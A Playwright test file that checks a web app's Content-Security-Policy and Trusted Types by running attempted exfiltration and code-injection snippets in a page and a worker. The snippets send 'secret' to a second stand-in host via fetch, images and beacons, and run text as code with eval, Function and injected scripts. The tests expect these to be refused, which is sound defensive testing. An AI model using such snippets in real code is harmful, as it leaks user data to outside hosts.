import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, test, type Page } from '@playwright/test'
import { pagePolicy } from '../../scripts/lib/security-policy.mjs'
import { Host } from './support/host'

/** The smallest module of WebAssembly there is. */
const emptyWasm = 'new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])'

/** Another host, which takes note of whoever reaches it. */
let other: Host

/** Tries each thing, and keeps how it ended. */
const trial = (attempts: Readonly<Record<string, string>>) => `
  const other = ${JSON.stringify(other.address)}
  const attempts = { ${Object.entries(attempts)
    .map(([name, code]) => `${JSON.stringify(name)}: async () => { ${code} }`)
    .join(',\n')} }
  const outcomes = {}
  for (const [name, attempt] of Object.entries(attempts))
    outcomes[name] = await attempt().then(() => 'done', () => 'refused')
  report(outcomes)`

/** What no code of Waymark may do, wherever it runs, even if somebody else's code got into it. */
const forbidden = {
  'fetch from another host': `await fetch(other + '?told=secret')`,
  'text as code': `eval('1 + 1')`,
  'text as a function': `new Function('return 1')()`
}

const inPage = {
  ...forbidden,
  'fetch our own file': `await fetch('worker.js')`,
  'compile WebAssembly': `await WebAssembly.compile(${emptyWasm})`,
  'markup from text': `document.body.innerHTML = '<b>text</b>'`,
  'a worker from text': `new Worker('worker.js')`,
  'a policy of another name': `trustedTypes.createPolicy('another', {})`,
  'a picture from another host': `await new Promise((loaded, failed) => {
      const picture = new Image(); picture.onload = loaded; picture.onerror = failed
      picture.src = other + '?told=secret' })`,
  'a frame': `await new Promise((loaded, failed) => {
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => effectiveDirective === 'frame-src' && failed())
      const frame = document.createElement('iframe'); frame.onload = loaded
      frame.src = other; document.body.append(frame) })`,
  'a script in the page': `const script = document.createElement('script'); script.textContent = 'globalThis.ran = true'
      document.body.append(script); if (!globalThis.ran) throw new Error()`
}

const inWorker = {
  ...forbidden,
  'fetch our own file': `await fetch('worker.js')`,
  'compile WebAssembly': `await WebAssembly.compile(${emptyWasm})`,
  'code from another host': `await import(other + 'page.js')`
}

let folder: string
let host: Host
test.beforeEach(async () => {
  host = new Host()
  other = new Host()
  folder = mkdtempSync(join(tmpdir(), 'waymark-policy-'))
  await other.serve(folder)
  const write = (name: string, text: string) => writeFileSync(join(folder, name), text)
  write(
    'index.html',
    `<!doctype html><meta http-equiv="Content-Security-Policy" content="${pagePolicy}"><script type="module" src="page.js"></script>`
  )
  write('headers-only.html', `<!doctype html><script type="module" src="page.js"></script>`)
  write(
    'page.js',
    `const policy = trustedTypes.createPolicy('waymark', { createScriptURL: (url) => url })
    const worker = new Worker(policy.createScriptURL('worker.js'), { type: 'module' })
    worker.onmessage = ({ data }) => { globalThis.workerOutcomes = data }
    const report = (outcomes) => { globalThis.pageOutcomes = outcomes }
    ${trial(inPage)}`
  )
  write('worker.js', `const report = (outcomes) => postMessage(outcomes)\n${trial(inWorker)}`)
  await host.serve(folder)
})
test.afterEach(async () => {
  await host.stop()
  await other.stop()
  rmSync(folder, { recursive: true, force: true })
})

const outcomes = async (page: Page, name: 'pageOutcomes' | 'workerOutcomes') => {
  await page.waitForFunction((key) => key in globalThis, name)
  return page.evaluate((key) => (globalThis as unknown as Record<string, Record<string, string>>)[key], name)
}
const all = (attempts: Readonly<Record<string, string>>, outcome: string) =>
  Object.fromEntries(Object.keys(attempts).map((name) => [name, outcome]))

/** A beacon says that it was sent even where it is stopped, so it is looked for where it would arrive. */
const sendBeacon = (page: Page) => page.evaluate(() => navigator.sendBeacon('/told', 'secret'))

test('with both policies a page can do nothing that would let anything out', async ({ page }) => {
  await page.goto(host.address)
  expect(await outcomes(page, 'pageOutcomes')).toEqual(all(inPage, 'refused'))
  await sendBeacon(page)
  // Sent later, and there earlier than nothing.
  await page.goto(`${host.address}last.html`)
  expect(host.asked).toContain('GET /last.html')
  expect(host.asked.filter((line) => !line.startsWith('GET '))).toEqual([])
  expect(other.asked).toEqual([])
})

test('a worker, which the header alone binds, may compile WebAssembly and read our own files, and no more', async ({
  page
}) => {
  await page.goto(host.address)
  expect(await outcomes(page, 'workerOutcomes')).toEqual({
    ...all(inWorker, 'refused'),
    'fetch our own file': 'done',
    'compile WebAssembly': 'done'
  })
  expect(other.asked).toEqual([])
})

test('the header alone lets a page do no more than a worker, and reach no other host', async ({ page }) => {
  await page.goto(`${host.address}headers-only.html`)
  expect(await outcomes(page, 'pageOutcomes')).toEqual({
    ...all(inPage, 'refused'),
    'fetch our own file': 'done',
    'compile WebAssembly': 'done'
  })
  expect(other.asked).toEqual([])
  // To our own host, which reads no body and answers that it does not: the policy of the page is what stops it.
  await sendBeacon(page)
  await expect.poll(() => host.asked).toContain('POST /told')
})
